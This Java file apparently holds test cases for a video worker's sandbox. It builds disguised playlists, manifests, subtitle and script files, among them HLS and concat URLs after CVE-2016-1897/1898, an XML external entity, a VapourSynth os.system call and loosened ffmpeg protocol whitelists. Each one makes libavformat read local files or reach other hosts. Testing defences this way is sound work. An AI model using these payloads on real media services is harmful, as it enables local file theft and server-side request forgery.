package io.framemill.worker.sandbox;

import io.framemill.worker.sandbox.Trick.Traps;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;

/** Playlists, manifests, scripts and session descriptions dressed as videos. */
final class PlaylistTricks {
  private static final String PLAYLIST = "is a playlist, which only names other files";
  private static final String TEXT = "is text, not a video";

  /** With what libavformat would open anything that a playlist names. */
  private static final Map<String, String> CARELESS =
      Map.of(
          "protocol_whitelist", "file,http,tcp,crypto,data,concat,subfile,async,cache",
          "allowed_extensions", "ALL",
          "extension_picky", "0");

  private PlaylistTricks() {}

  static Stream<Trick> all() {
    return Stream.of(hls(), protocols(), concat(), manifests(), sessions(), text())
        .flatMap(List::stream);
  }

  private static List<Trick> hls() {
    return List.of(
        hls("HLS of a local file by URL", "a.mp4", t -> "file://" + t.file()),
        hls("HLS of a local file by path", "a.ts", t -> t.file().toString()),
        hls("HLS of a local file", "a.m3u8", t -> t.file().toString()).thatBites(),
        hls("HLS of a neighbour", "a.mkv", t -> name(t)),
        hls("HLS of a neighbour", "a.m3u8", t -> name(t)).thatBites(),
        hls("HLS of another host", "a.avi", t -> "http://" + t.address() + "/1.ts"),
        hls("HLS of another host", "a.m3u8", t -> "http://" + t.address() + "/1.ts")
            .thatBitesWith(CARELESS),
        hls(
            "HLS of concatenated hosts and files (CVE-2016-1897)",
            "a.mp4",
            t -> "concat:http://" + t.address() + "/header.m3u8|file://" + t.file()),
        hls(
            "HLS of parts of files (CVE-2016-1898)",
            "a.mp4",
            t ->
                "concat:http://"
                    + t.address()
                    + "/header.y4m|subfile,,start,0,end,31,,:file://"
                    + t.file()
                    + "|subfile,,start,32,end,63,,:file://"
                    + t.file()),
        Trick.ofText(
            "HLS key at another host",
            "a.mp4",
            PLAYLIST,
            t ->
                playlist(
                    "#EXT-X-KEY:METHOD=AES-128,URI=\"http://" + t.address() + "/key\"",
                    t.file().toString())),
        Trick.ofText(
            "HLS key in a local file",
            "a.mp4",
            PLAYLIST,
            t -> playlist("#EXT-X-KEY:METHOD=AES-128,URI=\"" + t.file() + "\"", "missing.ts")),
        Trick.ofText(
            "HLS init segment in a local file",
            "a.mp4",
            PLAYLIST,
            t -> playlist("#EXT-X-MAP:URI=\"" + t.file() + "\"", "missing.ts")),
        Trick.ofText(
            "HLS master playlist of other playlists",
            "a.mp4",
            PLAYLIST,
            t ->
                "#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",URI=\"file://"
                    + t.file()
                    + "\"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"\nhttp://"
                    + t.address()
                    + "/v.m3u8\n"),
        Trick.ofText("plain list of files", "a.m3u", TEXT, t -> t.file() + "\n"));
  }

  private static Trick hls(String title, String fileName, Function<Traps, String> segment) {
    return Trick.ofText(title, fileName, PLAYLIST, t -> playlist("", segment.apply(t)));
  }

  private static String playlist(String tag, String segment) {
    return "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n"
        + tag
        + "\n#EXTINF:2,\n"
        + segment
        + "\n#EXT-X-ENDLIST\n";
  }

  /** Each protocol that libavformat has and that reaches a file, a host or a device. */
  private static List<Trick> protocols() {
    return Stream.<Function<Traps, String>>of(
            t -> "async:file:" + t.file(),
            t -> "cache:file:" + t.file(),
            t -> "crypto:file:" + t.file(),
            t -> "crypto+file:" + t.file(),
            t -> "subfile,,start,0,end,0,,:" + t.file(),
            t -> "concatf:" + t.file(),
            t -> "data:application/x-mpegurl;base64,I0VYVE0zVQo=",
            t -> "fd:0",
            t -> "pipe:0",
            t -> "unix:" + t.file(),
            t -> "tcp://" + t.address(),
            t -> "udp://" + t.address(),
            t -> "tls://" + t.address(),
            t -> "https://" + t.address() + "/",
            t -> "httpproxy://" + t.address() + "/",
            t -> "ftp://" + t.address() + "/",
            t -> "gopher://" + t.address() + "/",
            t -> "gophers://" + t.address() + "/",
            t -> "icecast://" + t.address() + "/",
            t -> "ipfs://" + t.address() + "/",
            t -> "mmsh://" + t.address() + "/",
            t -> "mmst://" + t.address() + "/",
            t -> "rtmp://" + t.address() + "/",
            t -> "rtmpt://" + t.address() + "/",
            t -> "rtp://" + t.address(),
            t -> "srtp://" + t.address(),
            t -> "srt://" + t.address(),
            t -> "amqp://" + t.address() + "/",
            t -> "zmq:tcp://" + t.address(),
            t -> "smb://" + t.address() + "/",
            t -> "sftp://" + t.address() + "/",
            t -> "tee:" + t.file())
        .map(url -> List.of(url, url))
        .flatMap(
            urls ->
                Stream.of(
                    hls("HLS by another protocol", "a.mp4", urls.get(0)),
                    concat("script by another protocol", urls.get(1))))
        .toList();
  }

  private static List<Trick> concat() {
    return List.of(
        concat("script of a neighbour", t -> name(t)).thatBites(),
        concat("script of a local file", t -> t.file().toString())
            .thatBitesWith(Map.of("safe", "0")),
        concat("script of another host", t -> "http://" + t.address() + "/1.ts")
            .thatBitesWith(Map.of("safe", "0", "protocol_whitelist", "file,http,tcp")),
        Trick.ofText(
            "script that lifts its own limits",
            "a.mov",
            PLAYLIST,
            t ->
                "ffconcat version 1.0\nfile '"
                    + name(t)
                    + "'\noption protocol_whitelist file,http,tcp\noption format_whitelist hls\n"));
  }

  private static Trick concat(String title, Function<Traps, String> file) {
    return Trick.ofText(
        title, "a.mov", PLAYLIST, t -> "ffconcat version 1.0\nfile '" + file.apply(t) + "'\n");
  }

  private static List<Trick> manifests() {
    return List.of(
        Trick.ofText("DASH of another host", "a.mp4", PLAYLIST, t -> dash("http://" + t.address())),
        Trick.ofText("DASH of a local file", "a.mp4", PLAYLIST, t -> dash("file://" + t.file())),
        Trick.ofText(
            "DASH with a remote period",
            "a.mp4",
            PLAYLIST,
            t ->
                "<?xml version=\"1.0\"?><MPD xmlns:xlink=\"http://www.w3.org/1999/xlink\"><Period"
                    + " xlink:href=\"http://"
                    + t.address()
                    + "/\" xlink:actuate=\"onLoad\"/></MPD>"),
        Trick.ofText(
            "external entity in XML",
            "a.mp4",
            TEXT,
            t ->
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file://"
                    + t.file()
                    + "\">]><CompositionPlaylist xmlns="
                    + "\"http://www.smpte-ra.org/schemas/2067-3/2016\">&e;</CompositionPlaylist>"),
        Trick.ofText(
            "SMIL",
            "a.smil",
            PLAYLIST,
            t -> "<smil><body><video src=\"http://" + t.address() + "/\"/></body></smil>"),
        Trick.ofText(
            "ASX",
            "a.wmv",
            PLAYLIST,
            t -> "<asx version=\"3.0\"><entry><ref href=\"" + t.file() + "\"/></entry></asx>"),
        Trick.ofText(
            "PLS", "a.mp3", PLAYLIST, t -> "[playlist]\nFile1=" + t.file() + "\nVersion=2\n"),
        Trick.ofText("RealMedia list", "a.ram", TEXT, t -> "rtsp://" + t.address() + "/a.rm\n"),
        Trick.ofText("QuickTime list", "a.mov", TEXT, t -> "RTSPtextrtsp://" + t.address() + "/"),
        Trick.ofText(
            "SVG with a picture of elsewhere",
            "a.mp4",
            TEXT,
            t ->
                "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"file://"
                    + t.file()
                    + "\"/></svg>"));
  }

  private static String dash(String base) {
    return "<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\""
        + " mediaPresentationDuration=\"PT2S\"><BaseURL>"
        + base
        + "</BaseURL><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\""
        + " bandwidth=\"1\"><SegmentList duration=\"2\"><Initialization sourceURL=\"i.mp4\"/>"
        + "<SegmentURL media=\"1.m4s\"/></SegmentList></Representation></AdaptationSet></Period>"
        + "</MPD>\n";
  }

  private static List<Trick> sessions() {
    return List.of(
        Trick.ofText(
            "SDP",
            "a.mp4",
            TEXT,
            t ->
                "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:rtsp://"
                    + t.address()
                    + "/\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"),
        Trick.ofText(
            "index of VobSub",
            "a.idx",
            TEXT,
            t ->
                "# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\n"
                    + "timestamp: 00:00:01:000, filepos: 000000000\n"),
        Trick.ofText("AviSynth script", "a.avs", TEXT, t -> "AviSource(\"" + t.file() + "\")\n"),
        Trick.ofText(
            "VapourSynth script",
            "a.vpy",
            TEXT,
            t -> "import os\nos.system('cat " + t.file() + "')\n"),
        Trick.ofText(
            "graph of filters", "a.lavfi", TEXT, t -> "movie=filename=" + t.file() + "[out0]"),
        Trick.ofText(
            "metadata file", "a.mp4", TEXT, t -> ";FFMETADATA1\ntitle=file://" + t.file() + "\n"));
  }

  private static List<Trick> text() {
    return List.of(
        Trick.ofText(
            "SubRip as the main file",
            "a.srt",
            TEXT,
            t -> "1\n00:00:00,000 --> 00:00:02,000\n<img src=\"" + t.file() + "\">\n"),
        Trick.ofText(
            "WebVTT as the main file",
            "a.vtt",
            TEXT,
            t -> "WEBVTT\n\nSTYLE\n@import url(http://" + t.address() + ");\n"),
        Trick.ofText(
            "ASS with a font of elsewhere",
            "a.ass",
            TEXT,
            t ->
                "[Script Info]\n[Fonts]\nfontname: "
                    + t.file()
                    + "\n[Events]\nDialogue: 0,0:00:00.00,0:00:02.00,Default,,0,0,0,,{\\fn"
                    + t.file()
                    + "}x\n"),
        Trick.ofText(
            "TTML with a font of elsewhere",
            "a.ttml",
            TEXT,
            t -> "<tt><head><font src=\"http://" + t.address() + "/\"/></head></tt>"),
        Trick.ofText(
            "JACOsub with a script of elsewhere", "a.jss", TEXT, t -> "#I " + t.file() + "\n"),
        Trick.ofText("TED captions", "a.mp4", TEXT, t -> "{\"captions\":[{\"content\":\"x\"}]}"),
        Trick.ofText(
            "SAMI",
            "a.smi",
            TEXT,
            t -> "<SAMI><BODY><SYNC Start=0><img src=\"" + t.file() + "\"></BODY></SAMI>"),
        Trick.ofText(
            "ARMovie", "a.rpl", TEXT, t -> "ARMovie\n" + t.file() + "\n(c)\nauthor\n130\n64\n36\n"),
        Trick.ofText("SBaGen", "a.sbg", TEXT, t -> "-SE\n-m " + t.file() + "\nNOW all\n"));
  }

  private static String name(Traps traps) {
    return traps.file().getFileName().toString();
  }
}
